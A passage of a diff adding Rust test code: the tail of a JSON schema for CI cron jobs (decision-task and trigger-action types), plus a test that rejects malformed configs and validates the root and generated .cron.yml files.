+                    {"type": "object", "required": ["type", "treeherder-symbol", "target-tasks-method"],
+                        "additionalProperties": false, "properties": {
+                        "type": {"const": "decision-task"},
+                        "treeherder-symbol": {"type": "string"},
+                        "target-tasks-method": {"type": "string"},
+                        "optimize-target-tasks": {"type": "boolean"},
+                        "include-push-tasks": {"type": "boolean"},
+                        "rebuild-kinds": {"type": "array", "items": {"type": "string"}},
+                        "include-cron-input": {"type": "boolean"},
+                    }},
+                    {"type": "object", "required": ["type", "action-name"], "additionalProperties": false, "properties": {
+                        "type": {"const": "trigger-action"},
+                        "action-name": {"type": "string"},
+                        "include-cron-input": {"type": "boolean"},
+                        "extra-input": {"type": "object"},
+                    }},
+                ]},
+            },
+        }}},
+    })
+}
+
+#[test]
+fn cron_jobs_are_what_build_decision_takes() {
+    let validator = jsonschema::validator_for(&cron_schema()).unwrap();
+    for broken in [
+        json!({}),
+        json!({"jobs": [{"name": "x"}]}),
+        json!({"jobs": [{"name": "x", "job": {"type": "decision-task", "target-tasks-method": "x"}}]}),
+    ] {
+        assert!(!validator.is_valid(&broken), "{broken}");
+    }
+    let repo = Repo::empty(&[]);
+    repo.run(&["init"]);
+    let new = std::fs::read_to_string(repo.path.join(".cron.yml")).unwrap();
+    for text in [root_file(".cron.yml"), new] {
+        let file: Value = serde_yaml::from_str(&text).unwrap();
+        assert_eq!(services::found(&validator, &file), Vec::<String>::new());
+        assert_eq!(file["jobs"][0]["name"], "rebuild");
+        assert_eq!(file["jobs"][0]["job"]["target-tasks-method"], "rebuild");
+    }
 }
